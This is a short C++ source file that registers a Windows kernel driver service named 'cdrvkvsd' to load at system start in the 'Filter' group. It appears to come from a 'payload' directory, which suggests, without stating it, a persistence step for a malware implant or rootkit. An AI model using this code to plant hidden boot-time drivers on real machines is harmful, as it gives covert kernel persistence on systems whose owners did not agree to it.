// The driver's service entry: five values under HKLM\SYSTEM\CurrentControlSet\Services\cdrvkvsd
// that have the driver loaded at system start in the "Filter" group.
#include "payload/driver_service.h"

#include "platform/registry.h"

namespace {

struct ServiceValue {
    const char* name;
    DWORD type;
    DWORD number;      // the data of a REG_DWORD
    const char* text;  // the data of a REG_SZ, written with `length` bytes
    DWORD length;
};

// In the order they are written. "Filter" goes with its six characters; the system adds the
// terminator that follows it in memory.
const ServiceValue kServiceValues[] = {
    {"ErrorControl", REG_DWORD, 0, nullptr, 4},
    {"Group", REG_SZ, 0, "Filter", 6},
    {"Start", REG_DWORD, 1, nullptr, 4},
    {"Tag", REG_DWORD, 6, nullptr, 4},
    {"Type", REG_DWORD, 1, nullptr, 4},
};

const char kServiceName[] = "cdrvkvsd";

}  // namespace

const char kServicesKey[] = "SYSTEM\\CurrentControlSet\\Services";

int RegisterDriverService() {
    HKEY services = nullptr;
    if (platform::RegOpenKeyExA(HKEY_LOCAL_MACHINE, kServicesKey, 0, KEY_READ | KEY_WRITE, &services) !=
        ERROR_SUCCESS) {
        return 0;
    }
    int result = 1;
    HKEY service = nullptr;
    DWORD disposition = 0;
    if (platform::RegCreateKeyExA(services, kServiceName, 0, nullptr, REG_OPTION_NON_VOLATILE,
                                  KEY_ALL_ACCESS, nullptr, &service, &disposition) != ERROR_SUCCESS) {
        result = 0;
        service = nullptr;
    }
    for (const ServiceValue& v : kServiceValues) {
        if (service == nullptr) break;
        const BYTE* data = v.type == REG_DWORD ? reinterpret_cast<const BYTE*>(&v.number)
                                               : reinterpret_cast<const BYTE*>(v.text);
        if (platform::RegSetValueExA(service, v.name, 0, v.type, data, v.length) != ERROR_SUCCESS) {
            result = 0;
            break;
        }
    }
    if (service != nullptr) platform::RegCloseKey(service);
    platform::RegCloseKey(services);
    return result;
}
